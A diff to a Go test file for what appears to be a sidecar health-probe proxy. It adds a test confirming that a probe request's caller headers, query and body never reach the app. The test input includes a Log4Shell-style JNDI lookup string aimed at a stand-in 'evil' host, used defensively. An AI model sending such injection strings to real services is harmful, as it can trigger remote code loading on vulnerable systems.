@@ -8,6 +8,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/google/go-cmp/cmp"
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/health"
 	"google.golang.org/grpc/health/grpc_health_v1"
@@ -30,6 +31,25 @@ func TestAnHTTPProbeHasTheHeadersOfItsAuthorAlone(t *testing.T) {
 	r := <-asked
 	if r.Host != "shop.example" || r.RequestURI != "/up" || r.Header.Get("X-Key") != "a" || r.UserAgent() != "me" || r.Header.Get("X-Auth-Subject") != "" {
 		t.Errorf("the app was asked %s of %s with %v", r.RequestURI, r.Host, r.Header)
+	}
+}
+
+func TestWhoeverAsksAProbeTellsTheAppNothing(t *testing.T) {
+	w := newWorld(t)
+	asked := make(chan *http.Request, 1)
+	w.serveApp(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { asked <- r }))
+	w.start(`--probe=app/startup={"protocol":"http","port":8080,"path":"/up"}`)
+	got := w.send("GET", "http://"+w.podIP+":15021/app/startup?x=${jndi:ldap://evil}", "stolen", "hush",
+		"User-Agent: ${jndi:ldap://evil}", "Accept: evil", "X-Forwarded-For: evil", "Referer: evil", "Cookie: evil=1", "Traceparent: evil")
+	if got.Status != http.StatusOK {
+		t.Errorf("got %d, want 200", got.Status)
+	}
+	r := <-asked
+	if diff := cmp.Diff(r.Header, http.Header{"User-Agent": {"kube-probe/latchkey"}, "Accept": {"*/*"}, "Connection": {"close"}}); diff != "" {
+		t.Errorf("got -, want + of the headers at the app:\n%s", diff)
+	}
+	if r.RequestURI != "/up" || r.ContentLength != 0 {
+		t.Errorf("got %s with %d bytes at the app, want /up without a body", r.RequestURI, r.ContentLength)
 	}
 }
 
